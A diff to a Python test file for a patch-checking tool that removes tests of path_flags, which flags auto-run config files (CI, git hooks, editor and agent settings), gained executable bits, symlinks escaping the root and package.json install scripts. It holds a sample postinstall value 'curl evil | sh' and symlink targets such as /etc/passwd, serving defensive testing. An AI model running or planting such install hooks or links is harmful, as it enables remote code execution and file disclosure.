@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from repoctx.patches.edits import EXECUTABLE, SYMLINK, EditError, FileState
+from repoctx.patches.edits import EditError, FileState
 from repoctx.patches.paths import check_path, is_git_folder_name, normalise, path_flags
 
 GIT_SPELLINGS = [
@@ -269,79 +269,6 @@ def test_harmless_forms_are_made_plain_and_others_stay(path: str, expected: str)
 
 
 PLAIN = FileState(b"x")
-
-FLAGGED = [
-    *(".github/workflows/ci.yml", ".GitHub/Workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile"),
-    *(".circleci/config.yml", "ci/Jenkinsfile", ".husky/pre-commit", ".pre-commit-config.yaml"),
-    *("hooks/pre-commit", "x/hooks/post-checkout", ".githooks/any", "lefthook.yml"),
-    *(".vscode/settings.json", "sub/.vscode/tasks.json", ".idea/workspace.xml", ".exrc"),
-    *(".devcontainer/devcontainer.json", ".devcontainer.json", "my.code-workspace", ".envrc"),
-    *(".gitattributes", "sub/.gitattributes", ".gitmodules", ".npmrc", ".cargo/config.toml"),
-    *(".yarnrc.yml", "pip.conf", ".mcp.json", ".claude/settings.json", ".cursor/mcp.json"),
-    *(".bashrc", ".ssh/config", "lib/evil.pth", "sitecustomize.py", "store/HEAD", ".repoctx.toml"),
-]
-UNFLAGGED = [
-    *("src/a.py", "Makefile", "setup.py", "tests/conftest.py", "README.md", ".gitignore"),
-    *(
-        "src/hooks/useState.ts",
-        "hooks/index.js",
-        "docs/head.md",
-        "package-lock.json",
-        "workflows/a",
-    ),
-    *(".github/ISSUE_TEMPLATE.md", ".editorconfig", "heading", "pyproject.toml", "Dockerfile"),
-]
-
-
-@pytest.mark.parametrize("path", FLAGGED)
-def test_what_runs_unasked_is_flagged(path: str) -> None:
-    assert path_flags(path, PLAIN, FileState(b"y"))
-
-
-@pytest.mark.parametrize("path", UNFLAGGED)
-def test_what_runs_only_with_the_project_is_not_flagged(path: str) -> None:
-    assert path_flags(path, PLAIN, FileState(b"y")) == ()
-
-
-def test_the_executable_bit_is_flagged_when_it_is_gained() -> None:
-    run = FileState(b"x", EXECUTABLE)
-    assert path_flags("a", None, run) == ("becomes executable",)
-    assert path_flags("a", PLAIN, run) == ("becomes executable",)
-    assert path_flags("a", run, run) == ()
-    assert path_flags("a", run, PLAIN) == ()
-
-
-@pytest.mark.parametrize(
-    ("path", "target", "outside"),
-    [
-        ("l", b"a", False),
-        ("d/l", b"../a", False),
-        ("l", b"../a", True),
-        ("d/l", b"../../a", True),
-        ("l", b"/etc/passwd", True),
-        ("l", b".git/config", True),
-        ("d/l", b"../.git", True),
-    ],
-)
-def test_links_are_flagged_and_those_that_lead_out_more_so(
-    path: str, target: bytes, outside: bool
-) -> None:
-    (flag,) = path_flags(path, None, FileState(target, SYMLINK))
-    assert flag == ("symbolic link to outside the root" if outside else "symbolic link")
-
-
-def test_replacing_a_link_is_flagged() -> None:
-    assert path_flags("l", FileState(b"a", SYMLINK), PLAIN) == ("replaces a symbolic link",)
-
-
-def test_package_json_is_flagged_for_install_scripts_only() -> None:
-    before = FileState(b'{"scripts": {"test": "jest"}}')
-    harmless = FileState(b'{"scripts": {"test": "vitest"}, "dependencies": {"a": "1"}}')
-    harmful = FileState(b'{"scripts": {"test": "jest", "postinstall": "curl evil | sh"}}')
-    nested = FileState(b"[" * 100_000)
-    assert path_flags("package.json", before, harmless) == ()
-    assert path_flags("web/package.json", before, harmful) == ("script that runs on install",)
-    assert path_flags("package.json", before, nested) == ()
 
 
 def test_hard_links_are_flagged_when_the_root_is_known(tmp_path: Path) -> None:
